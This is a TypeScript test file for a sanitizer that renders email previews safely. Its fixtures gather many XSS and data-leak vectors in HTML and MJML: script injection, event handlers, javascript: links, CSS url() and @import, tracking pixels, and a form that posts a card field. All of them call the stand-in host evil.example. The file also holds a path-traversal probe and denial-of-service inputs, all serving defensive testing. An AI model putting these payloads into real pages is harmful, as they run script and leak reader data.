import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { definitionFiles, loadDemo } from '../../src/app/server/load-demo.ts';
import { Marks } from '../../src/app/server/previews/marks.ts';
import { safeMarkup } from '../../src/app/server/previews/safe-markup.ts';
import { SourceText } from '../../src/kernel/source-text.ts';
import { readTemplateTags } from '../../src/playbook/4-harm/messages/template-tags.ts';
import { type Somebody, TestServer } from '../api/harness.ts';
import { CANNOT_RUN, ConsoleUnderTest } from '../browser/console.ts';

const EVIL = 'evil.example';

/** All ways that we know in which a message reaches out or runs. */
const HOSTILE = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://${EVIL}/refresh">
<base href="https://${EVIL}/">
<link rel="stylesheet" href="https://${EVIL}/style.css"><link rel="dns-prefetch" href="//${EVIL}">
<style>@import "https://${EVIL}/import.css"; body { background: url(https://${EVIL}/background.png) }
@font-face { font-family: x; src: url(https://${EVIL}/font.woff2) } mark { display: none !important }
* { font-family: x } .cover { position: fixed; inset: 0; background: black }
i { background: \\75\\72\\6c(https://${EVIL}/escaped.png) } b { content: image-set("https://${EVIL}/set.png" 1x) }</style>
<script>parent.ran = 1; fetch("https://${EVIL}/script")</script></head>
<body onload="parent.ran = 2" background="https://${EVIL}/body.png">
<div class="cover" style="position: fixed; inset: 0"></div>
<img src="https://${EVIL}/pixel.gif" width="1" height="1"><img src=x onerror="parent.ran = 3">
<img srcset="https://${EVIL}/srcset.png 2x" alt="Last chance"><video src="https://${EVIL}/film" autoplay></video>
<svg onload="parent.ran = 4"><script>parent.ran = 5</script><image href="https://${EVIL}/svg.png"/></svg>
<math><mtext><style><img src=x onerror="parent.ran = 6"></style></mtext></math>
<iframe src="https://${EVIL}/frame" srcdoc="<script>parent.parent.ran = 7</script>"></iframe>
<object data="https://${EVIL}/object"></object><embed src="https://${EVIL}/embed">
<form action="https://${EVIL}/form" method="post"><input name="card" value="1"><button formaction="https://${EVIL}/b">Pay</button></form>
<a href="javascript:parent.ran = 8" ping="https://${EVIL}/ping">Only 2 pairs left, ends in 2 hours</a>
<noscript><p title="</noscript><img src=x onerror='parent.ran = 9'>">x</p></noscript>
<textarea></textarea><script>parent.ran = 10</script></textarea>
<table background="https://${EVIL}/table.png"><tr><td style="background-image: url('https://${EVIL}/td.png')">x</td></tr></table>
<template><script>parent.ran = 11</script></template><xmp><script>parent.ran = 12</script></xmp>
<!--[if gte IE 4]><script>parent.ran = 13</script><![endif]--><!-- --!><script>parent.ran = 14</script>
<p style="x:expression(parent.ran = 15);background:url(&quot;https://${EVIL}/entity.png&quot;)">{{ first_name }} &lt;script&gt;</p>
<p>unclosed <b><i <p <<script>script>parent.ran = 16</script>
`;
const HOSTILE_MJML = `<mjml><mj-head><mj-font name="x" href="https://${EVIL}/font.css"/>
<mj-style>p { background: url(https://${EVIL}/style.png) }</mj-style><mj-include path="https://${EVIL}/part.mjml"/>
<mj-raw><script>parent.ran = 20</script></mj-raw></mj-head>
<mj-body css-class="&quot; onload=&quot;parent.ran = 21"><mj-section background-url="https://${EVIL}/section.png">
<mj-column><mj-image src="https://${EVIL}/image.png" alt="Hurry"/>
<mj-text padding="0;background:url(https://${EVIL}/padding.png)">Ends in 2 hours, {{ first_name }}<script>parent.ran = 22</script><img src="https://${EVIL}/in.png" onerror="parent.ran = 23"></mj-text>
<mj-button href="https://${EVIL}/button">Only 2 pairs left</mj-button>
<mj-social><mj-social-element name="facebook" href="https://${EVIL}/social">x</mj-social-element></mj-social>
</mj-column></mj-section></mj-body></mjml>`;

const shown = (
  text: string,
  marks: ConstructorParameters<typeof Marks>[0] = [],
  format: 'html' | 'mjml' = 'html',
) => safeMarkup(text, readTemplateTags(text), new Marks(marks), format);
/** What a reader sees of markup that we made. */
const textOf = (html: string): string =>
  html.replace(/<[^>]*>/g, '').replace(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)));
const folded = (text: string): string => text.replace(/\s+/g, ' ').trim();
const markedBy = (html: string, finding: string): string =>
  [...html.matchAll(/<mark data-finding="([^"]*)"[^>]*>(.*?)<\/mark>/gs)]
    .filter(([, ids]) => ids!.split(' ').includes(finding))
    .map(([, , inner]) => textOf(inner!))
    .join('');

describe('the markup of a preview', () => {
  it.each([
    ['html', HOSTILE],
    ['mjml', HOSTILE_MJML],
  ] as const)('keeps nothing of a hostile message in %s that runs, loads or sends', (format, text) => {
    const { html, body, styles } = shown(text, [], format);
    const elements = [...html.matchAll(/<([a-z][\w-]*)([^>]*)>/g)];
    expect(elements.length).toBeGreaterThan(5);
    const names = elements.map(([, name]) => name);
    expect(
      names.filter((name) =>
        /script|style$|frame|object|embed|svg|math|form|link|meta|base|video/.test(name!),
      ),
    ).toEqual([]);
    const attributes = elements.map(([, , written]) => written!).join('') + body;
    expect(attributes).not.toMatch(
      /\son\w+=|\s(?:href|src|srcset|action|formaction|background|ping|data)=|url\(|expression|javascript:/i,
    );
    expect(styles).not.toMatch(/url\s*\(|@import|@font-face|image-set|fixed/i);
    expect(attributes + styles).not.toContain(EVIL);
  });

  it('counts what it took out', () => {
    const { removed } = shown(HOSTILE);
    expect(removed).toMatchObject({ redirection: 1, 'base address': 1, 'tracking pixel': 1, form: 1 });
    expect(removed.script).toBeGreaterThan(5);
  });

  it('marks the very words of the source, whatever stands around them', () => {
    const part = fc.oneof(
      fc.constantFrom(
        '<b>',
        '</b>',
        '<p class="x">',
        '</p>',
        '<br>',
        '&amp;',
        '&nbsp;',
        '{{ name }}',
        '*|FNAME|*',
        '<td>',
        '</i>',
      ),
      fc.string({ unit: fc.constantFrom('a', 'é', '😀', ' ', 'z'), minLength: 1, maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(part, { minLength: 1, maxLength: 30 }), fc.nat(), fc.nat(), (parts, one, two) => {
        const edges = [0];
        for (const each of parts) edges.push(edges.at(-1)! + each.length);
        const text = parts.join('');
        const [start, end] = [edges[one % edges.length]!, edges[two % edges.length]!].sort(
          (a, b) => a - b,
        ) as [number, number];
        fc.pre(end > start);
        const { html } = shown(text, [{ finding: 'f', gravity: 'review', start, end }]);
        const source = text
          .slice(start, end)
          .replace(/<[^>]*>/g, '')
          .replaceAll('&amp;', '&')
          .replaceAll('&nbsp;', '\u00A0');
        expect(markedBy(html, 'f')).toBe(source);
      }),
    );
  });

  it.each([
    ['deeply nested', '<div>'.repeat(200_000) + 'x'.repeat(10) + '</p>'.repeat(200_000)],
    ['5 MB', '<p style="color: red">Hello {{ name }}, hurry</p>\n'.repeat(100_000)],
    ['nothing but broken tags', '<a <b <'.repeat(500_000)],
    ['an endless style', `<style>${'/*{'.repeat(1_000_000)}`],
    ['endless attributes', `<p ${'a=1 '.repeat(500_000)}>`],
  ])('takes %s in a moment', (_, text) => {
    const before = performance.now();
    const { html } = shown(text);
    expect(performance.now() - before).toBeLessThan(8_000);
    expect(html.length).toBeLessThan(8_000_000);
  });
});

describe('previews of the example workspace', () => {
  let server: TestServer;
  let aud: Somebody;
  beforeAll(async () => {
    server = await TestServer.start();
    const ada = await server.administrator();
    await server.person(ada, 'Lifecycle', ['operator'], { reportsTo: null });
    aud = await server.person(ada, 'Aud', ['auditor']);
    const loaded = await loadDemo(server.context, { onStart: () => {} });
    if (!loaded.ok) throw new Error(loaded.problem.message);
  }, 90_000);
  afterAll(() => server.stop());

  it('mark each finding where it was made, word for word', async () => {
    let compared = 0;
    for (const { id } of (await aud.ask('/v1/uses?limit=100')).body.items) {
      const { latestVersion } = (await aud.ask(`/v1/uses/${id}`)).body;
      const version = (await aud.ask(`/v1/uses/${id}/versions/${latestVersion}`)).body;
      const findings = (await aud.ask(`/v1/uses/${id}/findings?limit=500`)).body.items;
      for (const { name } of version.messages) {
        const answer = await aud.ask(
          `/v1/uses/${id}/versions/${latestVersion}/previews/${encodeURIComponent(name)}`,
        );
        expect([name, answer.status, answer.body.code]).toEqual([name, 200, undefined]);
        const { markup, parts, unplaced } = answer.body;
        const source = new SourceText(
          name,
          version.files.find(({ path }: { path: string }) => path === name).text,
        );
        for (const finding of findings) {
          if (finding.at.file !== name || unplaced.includes(finding.id)) continue;
          const marked =
            markup === null
              ? parts
                  .flatMap(({ pieces }: { pieces: { text: string; findings: string[] }[] }) => pieces)
                  .filter(({ findings: ids }: { findings: string[] }) => ids.includes(finding.id))
                  .map(({ text }: { text: string }) => text)
                  .join('')
              : markedBy(markup.html, finding.id);
          // A mark of a tag alone holds no words.
          if (marked === '') continue;
          compared += 1;
          expect(folded(marked)).toBe(folded(source.quote(finding.at).replace(/<[^>]*>/g, '')));
        }
      }
    }
    expect(compared).toBeGreaterThan(20);
  });

  it('show nothing of uses and files that are not there', async () => {
    const { latestVersion } = (await aud.ask('/v1/uses/winback-spring')).body;
    const at = (use: string, file: string) =>
      aud.ask(`/v1/uses/${use}/versions/${latestVersion}/previews/${encodeURIComponent(file)}`);
    expect((await at('winback-spring', 'uses/winback-spring/use.yaml')).status).toBe(404);
    expect((await at('winback-spring', '../../etc/passwd')).status).toBe(404);
    expect((await at('trail-ad', 'uses/trail-ad/ad.json')).status).toBe(404);
  });
});

describe.skipIf(CANNOT_RUN !== null)('a hostile message in the console', () => {
  let console: ConsoleUnderTest;
  beforeAll(async () => {
    console = await ConsoleUnderTest.start({ demo: false });
  }, 90_000);
  afterAll(() => console?.stop());

  it.each([
    ['html', 'email.html', HOSTILE],
    ['html of 3 MB', 'email.html', HOSTILE + '<p>Hurry, ends in 2 hours</p>\n'.repeat(100_000)],
    ['mjml', 'email.mjml', HOSTILE_MJML],
  ])(
    'in %s runs nothing, asks nobody, and leaves the page quick',
    async (_, name, text) => {
      const read = await definitionFiles('examples/harbor');
      if (!read.ok) throw new Error(read.problem.message);
      const files = read.value
        .filter(({ path }) => !path.startsWith('uses/') || path.startsWith('uses/winback-spring/'))
        .map(({ path, text: kept }) =>
          path.endsWith('/email.html')
            ? { path: path.replace('email.html', name), text }
            : { path, text: kept.replace('email.html', name) },
        );
      const owner = console.as('lifecycle');
      const pushed = await owner.ask('/v1/uses/winback-spring/versions', {
        method: 'POST',
        body: { workspace: 'harbor', files },
      });
      expect([pushed.status, pushed.body.code]).toEqual([201, undefined]);
      const open = (await owner.ask('/v1/reviews?use=winback-spring')).body.items[0];
      if (open !== undefined)
        await owner.ask(`/v1/reviews/${open.id}/steps`, {
          method: 'POST',
          body: { type: 'withdrawn', reason: 'changed' },
        });
      const asked = await owner.ask('/v1/uses/winback-spring/reviews', { method: 'POST' });
      expect([asked.status, asked.body.code]).toEqual([201, undefined]);

      const sight = await console.open('aud', '/');
      const { page } = sight;
      const elsewhere: string[] = [];
      page.on('request', (request) => {
        if (!request.url().startsWith(console.url) && !/^(?:data|blob|about):/.test(request.url()))
          elsewhere.push(request.url());
      });
      await page.goto(`${console.url}/reviews/${asked.body.id}`);
      await page.getByRole('tab', { name: 'Message' }).click();
      const frame = page.locator('iframe');
      await frame.waitFor();
      expect(await frame.getAttribute('sandbox')).toBe('');
      await page
        .frameLocator('iframe')
        .getByText(/ends in 2 hours/i)
        .first()
        .waitFor();
      // What is too long to be judged holds no marks, and is shown all the same.
      if (text.length < 2_000_000)
        await page.frameLocator('iframe').locator('mark[data-finding]').first().waitFor();
      const before = performance.now();
      await page.getByRole('tab', { name: 'Plan' }).click();
      await page.getByRole('heading', { name: 'What the customer will see' }).waitFor();
      expect(performance.now() - before).toBeLessThan(4_000);
      expect(await page.evaluate('globalThis.ran')).toBeUndefined();
      expect(elsewhere).toEqual([]);
      expect(sight.complaints).toEqual([]);
      await page.getByRole('tab', { name: 'Message' }).click();
      await frame.waitFor();
      await sight.shoot(`preview-hostile-${name.split('.').at(-1)}`);
      await sight.close();
    },
    60_000,
  );
});
